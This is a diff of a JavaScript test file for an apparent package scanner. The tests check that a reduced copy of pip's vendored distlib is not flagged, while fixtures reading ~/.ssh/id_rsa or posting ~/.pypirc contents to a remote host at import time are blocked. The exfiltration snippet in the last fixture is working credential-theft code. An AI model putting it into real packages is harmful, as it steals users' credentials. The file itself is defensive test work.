@@ -96,19 +96,65 @@ class TelegramIO:
 });
 
 test('import-time code that reads a packaging credential file and fetches elsewhere is not theft; sending the file is', async () => {
-  const distlib = `import os
-from urllib.request import urlopen
+  // pip's vendored distlib (util.py, reduced from the real file by deleting blocks while the old code still blocked
+  // it): no imports the parser resolves, so the backstop guesses what runs; the host is a module constant joined into
+  // the fetched URL, the credential file is a constructor's default path, read by a config parser in a method.
+  const distlib = `def _get_external_data(url):
+    result = {}
+    try:
+        resp = urlopen(url)
+        reader = codecs.getreader('utf-8')(resp)
+        result = json.load(reader)
+    except Exception as e:
+        logger.exception('Failed to get external data for %s: %s', url, e)
+    return result
+
+_external_data_base_url = 'https://www.data-host.net/pypi/projects/'
+
 def get_project_data(name):
-    return urlopen('https://www.data-host.net/pypi/projects/' + name).read()
-def _load_pypirc():
-    return open(os.path.join(os.path.expanduser('~'), '.pypirc')).read()
+    url = '%s/%s/project.json' % (name[0].upper(), name)
+    url = urljoin(_external_data_base_url, url)
+    return _get_external_data(url)
+
+class ServerProxy(xmlrpclib.ServerProxy):
+    def __init__(self, uri, **kwargs):
+        self.timeout = kwargs.pop('timeout', None)
+        xmlrpclib.ServerProxy.__init__(self, uri, **kwargs)
+
+def _csv_open(fn, mode, **kwargs):
+    kwargs['encoding'] = 'utf-8'
+    return open(fn, mode, **kwargs)
+
+class PyPIRCFile(object):
+    def __init__(self, fn=None, url=None):
+        if fn is None:
+            fn = os.path.join(os.path.expanduser('~'), '.pypirc')
+        self.filename = fn
+        self.url = url
+
+    def read(self):
+        config = configparser.RawConfigParser()
+        config.read(self.filename)
+        return {'username': config.get('pypi', 'username'), 'password': config.get('pypi', 'password')}
+
+    def update(self, username, password):
+        config = configparser.RawConfigParser()
+        fn = self.filename
+        config.read(fn)
+        config.set('pypi', 'password', password)
+        with open(fn, 'w') as f:
+            config.write(f)
 `;
   const init = 'from .util import get_project_data, _load_pypirc\n';
   const honest = await level({ 'acmetools/__init__.py': init, 'acmetools/util.py': distlib });
   assert.is.not(honest.level, 'BLOCKED', honest.high.join(' '));
-  // the same file sending the credential file's content to that host is theft
-  const sent = distlib + "def sync():\n    return urlopen('https://www.data-host.net/pypi/projects/up', data=_load_pypirc().encode())\nsync()\n";
-  assert.is((await level({ 'acmetools/__init__.py': init, 'acmetools/util.py': sent })).level, 'BLOCKED');
+  assert.not.ok(honest.high.includes('risk_combination'), honest.high.join(' '));
+  // another store read the same way (an SSH key) beside the same fetch is still theft at import
+  const ssh = distlib.replace("'.pypirc'", "'.ssh', 'id_rsa'");
+  assert.is((await level({ 'acmetools/__init__.py': init, 'acmetools/util.py': ssh })).level, 'BLOCKED');
+  // the credential file's content sent to that host is theft
+  const sent = `import os\nfrom urllib.request import urlopen\ndef _load_pypirc():\n    return open(os.path.join(os.path.expanduser('~'), '.pypirc')).read()\ndef sync():\n    return urlopen('https://www.data-host.net/pypi/projects/up', data=_load_pypirc().encode())\nsync()\n`;
+  assert.is((await level({ 'acmetools/__init__.py': 'from .util import sync\n', 'acmetools/util.py': sent })).level, 'BLOCKED');
 });
 
 test.run();
